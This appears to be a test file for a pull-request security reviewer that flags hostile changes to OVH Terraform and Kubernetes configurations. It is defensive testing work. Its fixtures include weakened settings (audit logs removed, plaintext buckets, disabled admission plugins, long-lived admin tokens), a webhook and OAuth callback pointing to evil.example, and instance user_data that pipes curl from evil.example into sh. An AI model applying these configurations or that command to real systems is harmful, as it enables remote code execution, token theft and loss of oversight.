import { describe, expect, test } from 'vitest';
import { first, type Json, type Output, type Seen, useOrbital } from './output';

const review = useOrbital();
const ops = 'mission-operations-prod';
const platform = `${ops}-platform-main`;
const foundation = 'flight-dynamics-prod-foundation';

type Edit = (output: Output) => void;
const at =
  (stack: string, edit: (main: Json) => void): Edit =>
  (output) =>
    output.stack(stack, edit);
/** The first resource of a type, changed. */
const one = (stack: string, type: string, edit: (body: Json) => void): Edit =>
  at(stack, ({ resource }) => edit(first(resource[type])[1]));
const without = (stack: string, type: string): Edit =>
  at(stack, ({ resource }) => Reflect.deleteProperty(resource, type));
const put = (stack: string, type: string, body: Json): Edit =>
  at(stack, ({ resource }) => {
    resource[type] = { ...resource[type], X: body };
  });
const manifest = (object: Json): Edit => put(platform, 'kubernetes_manifest', { manifest: object });

/** What is said of findings, and of what the readings tell otherwise. */
const saysOf = ({ report }: Seen): readonly string[] => [
  ...report.stacks.flatMap(({ findings }) => findings.map((finding) => `${finding.class}: ${finding.says}`)),
  ...Object.entries(report.readings).flatMap(([id, { changes }]) => changes.map(({ says }) => `${id}: ${says}`)),
];

const cluster = 'ovh_cloud_project_kube';
const oidc = `${cluster}_oidc`;
const webhook = (kind: string, client: Json, rule: Json, more: Json = {}): Json => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind,
  metadata: { name: 'guard' },
  webhooks: [
    {
      name: 'guard.example.test',
      admissionReviewVersions: ['v1'],
      sideEffects: 'None',
      clientConfig: client,
      rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'], ...rule }],
      ...more,
    },
  ],
});
const guarding = manifest(
  webhook(
    'ValidatingWebhookConfiguration',
    { service: { name: 'guard', namespace: 'guard' } },
    {},
    {
      namespaceSelector: { matchExpressions: [{ key: 'guard', operator: 'NotIn', values: ['off'] }] },
    },
  ),
);
const ingress = (metadata: Json = {}): Json => ({
  apiVersion: 'networking.k8s.io/v1',
  kind: 'Ingress',
  metadata: { name: 'web', namespace: 'control', ...metadata },
  spec: { rules: [{ host: 'ops.orbital.example' }] },
});
const service = (spec: Json): Json => ({
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name: 'web', namespace: 'control' },
  spec: { type: 'ClusterIP', ports: [{ port: 443 }], ...spec },
});
const registry = (more: Json = {}): Json => ({
  service_name: 'x',
  registry_id: 'r',
  oidc_client_id: 'harbor',
  oidc_client_secret: '${var.s}',
  oidc_endpoint: 'https://login.orbital.example',
  oidc_name: 'login',
  oidc_scope: 'openid',
  ...more,
});
const instance = (more: Json): Json => ({
  service_name: 'x',
  billing_period: 'hourly',
  name: 'jump',
  region: 'GRA11',
  boot_from: [{ image_id: 'debian' }],
  flavor: [{ flavor_id: 'b3-8' }],
  ssh_key: [{ name: 'ops' }],
  network: [{ public: false }],
  ...more,
});
const bucket = (sse: string): Json => ({
  service_name: 'x',
  name: 'telemetry',
  region_name: 'GRA',
  encryption: { sse_algorithm: sse },
});
const plugins = (disabled: string[], enabled: string[]) =>
  one(ops, cluster, (body) => {
    body.customization_apiserver = [{ admissionplugins: [{ disabled, enabled }] }];
  });
const denied = (edit: (policy: Json) => void): Edit =>
  at(foundation, ({ resource }) => edit(resource.ovh_iam_policy.DenyFloor_people_BB4F21BD));
const token = (type: string): Json => ({
  metadata: { name: 'robot', namespace: 'kube-system', annotations: { 'kubernetes.io/service-account.name': 'admin' } },
  type,
});

interface Case {
  readonly says: string;
  readonly base?: Edit;
  readonly head: Edit;
}
interface Attack extends Case {
  readonly gates: readonly string[];
  readonly told: string;
}

const hostile: readonly Attack[] = [
  {
    says: 'the audit log of a cluster goes to nobody any more',
    head: without(ops, `${cluster}_log_subscription`),
    gates: ['guard'],
    told: 'guard: what happens in Clusters/main is no longer kept (audit)',
  },
  {
    says: 'the audit log is kept for a year less',
    head: one(foundation, 'ovh_dbaas_logs_output_graylog_stream', (body) => {
      body.cold_storage_retention = 1;
    }),
    gates: ['guard'],
    told: 'guard: its logs are kept for less long (cold_storage_retention)',
  },
  {
    says: 'groups of the identity provider are taken for groups of the cluster',
    head: one(ops, oidc, (body) => {
      body.oidc_groups_prefix = '-';
    }),
    gates: ['access', 'star'],
    told: 'access: whoever logs in at https://login.orbital.example (client kubernetes) gains: be in any group that the provider says, also in those of the cluster itself, be in the groups in groups on cluster Clusters/main',
  },
  {
    says: 'a cluster gets no patches any more',
    head: one(ops, cluster, (body) => {
      body.update_policy = 'NEVER_UPDATE';
    }),
    gates: ['guard'],
    told: 'guard: patches of the cluster are no longer installed (update_policy)',
  },
  {
    says: 'a service account hands its tokens to another address',
    head: one(foundation, 'ovh_me_api_oauth2_client', (body) => {
      body.callback_urls = ['https://evil.example/callback'];
    }),
    gates: ['access'],
    told: 'access: flight-dynamics-prod-foundation/Pipeline gains: hand over who logs in to https://evil.example/callback on account',
  },
  {
    says: 'a deny ends',
    head: denied((policy) => {
      policy.expired_at = '2026-12-01T00:00:00Z';
    }),
    gates: ['access'],
    told: 'access: group xx1111-ovh/fd-ops is denied: deny floor of people (100 actions) on vrack:*, until 2026-12-01',
  },
  {
    says: 'a namespace gets the label that a webhook passes over',
    base: guarding,
    head: one(platform, 'kubernetes_namespace_v1', (body) => {
      body.metadata.labels.guard = 'off';
    }),
    gates: ['guard'],
    told: 'guard: namespace control is passed over by ValidatingWebhookConfiguration guard',
  },
  {
    says: 'somebody outside may change every pod',
    head: manifest(webhook('MutatingWebhookConfiguration', { url: 'https://evil.example/mutate' }, {})),
    gates: ['access', 'star'],
    told: 'access: https://evil.example/mutate (webhook guard) gains: change pods as they come on cluster mission-operations-prod/Clusters/main',
  },
  {
    says: 'an ingress in a manifest answers for a host',
    head: manifest(ingress()),
    gates: ['exposure'],
    told: 'exposure: new: ingress web in the cluster mission-operations-prod/Clusters/main answers for ops.orbital.example',
  },
  {
    says: 'a service takes an address that is not its own',
    head: manifest(service({ externalIPs: ['203.0.113.9'] })),
    gates: ['exposure'],
    told: 'exposure: new: service web in the cluster mission-operations-prod/Clusters/main takes what is sent to 203.0.113.9',
  },
  {
    says: 'a group of others administers a registry',
    base: put('erp-prod', 'ovh_cloud_project_containerregistry_oidc', registry()),
    head: put('erp-prod', 'ovh_cloud_project_containerregistry_oidc', registry({ oidc_admin_group: 'everyone' })),
    gates: ['access', 'star'],
    told: 'access: group everyone at https://login.orbital.example gains: administer on registry r',
  },
  {
    says: 'a cluster no longer keeps nodes to what is theirs',
    base: plugins([], ['NodeRestriction', 'AlwaysPullImages']),
    head: plugins(['NodeRestriction'], ['AlwaysPullImages']),
    gates: ['guard'],
    told: 'guard: no longer guarded by an admission plugin: NodeRestriction',
  },
  {
    says: 'objects of a bucket are written in plain text',
    base: put('erp-prod', 'ovh_cloud_project_storage', bucket('AES256')),
    head: put('erp-prod', 'ovh_cloud_project_storage', bucket('plaintext')),
    gates: ['guard'],
    told: 'guard: new objects of it are no longer encrypted (encryption)',
  },
  {
    says: 'a token of a service account that never ends',
    head: put(platform, 'kubernetes_secret_v1', token('kubernetes.io/service-account-token')),
    gates: ['access'],
    told: 'access: whoever reads the secret kube-system/robot gains: be ServiceAccount admin on cluster mission-operations-prod/Clusters/main, namespace kube-system',
  },
  {
    says: 'an instance runs a script when it starts',
    base: put('erp-prod', 'ovh_cloud_project_instance', instance({})),
    head: put(
      'erp-prod',
      'ovh_cloud_project_instance',
      instance({ user_data: '#!/bin/sh\ncurl https://evil.example | sh' }),
    ),
    gates: ['runs-code'],
    told: 'runs-code: runs a program on the machine that it makes (user_data)',
  },
];

const harmless: readonly Case[] = [
  {
    says: 'an audit log is kept for longer',
    head: one(foundation, 'ovh_dbaas_logs_output_graylog_stream', (body) => {
      body.cold_storage_retention = 10;
    }),
  },
  {
    says: 'patches are installed with less trouble',
    head: one(ops, cluster, (body) => {
      body.update_policy = 'MINIMAL_DOWNTIME';
    }),
  },
  {
    says: 'a namespace gets a label that no webhook asks for',
    base: guarding,
    head: one(platform, 'kubernetes_namespace_v1', (body) => {
      body.metadata.labels.tier = 'web';
    }),
  },
  { says: 'a webhook of the cluster that refuses', head: guarding },
  { says: 'an ingress gets a label', base: manifest(ingress()), head: manifest(ingress({ labels: { tier: 'web' } })) },
  { says: 'a service inside of the cluster', head: manifest(service({})) },
  {
    says: 'one more admission plugin',
    base: plugins([], ['NodeRestriction']),
    head: plugins([], ['NodeRestriction', 'AlwaysPullImages']),
  },
  {
    says: 'objects of a bucket are encrypted from now on',
    base: put('erp-prod', 'ovh_cloud_project_storage', bucket('plaintext')),
    head: put('erp-prod', 'ovh_cloud_project_storage', bucket('AES256')),
  },
  {
    says: 'a registry calls its login otherwise',
    base: put('erp-prod', 'ovh_cloud_project_containerregistry_oidc', registry({ oidc_admin_group: 'ops' })),
    head: put(
      'erp-prod',
      'ovh_cloud_project_containerregistry_oidc',
      registry({ oidc_admin_group: 'ops', oidc_name: 'sso' }),
    ),
  },
  { says: 'a secret of a program', head: put(platform, 'kubernetes_secret_v1', token('Opaque')) },
];

describe('a hostile pull request trips the gate that it matters to', () => {
  test.each(hostile.map((one) => [one.says, one] as const))('%s', (_, { gates, told, ...sides }) => {
    const seen = review(sides);
    expect(seen.gates).toEqual(expect.arrayContaining([...gates]));

    expect(saysOf(seen)).toContain(told);
  });
});

describe('a harmless one is a change, and trips no other gate', () => {
  test.each(harmless.map((one) => [one.says, one] as const))('%s', (_, sides) => {
    expect(review(sides).gates.filter((gate) => gate !== 'add' && gate !== 'change')).toEqual([]);
  });
});
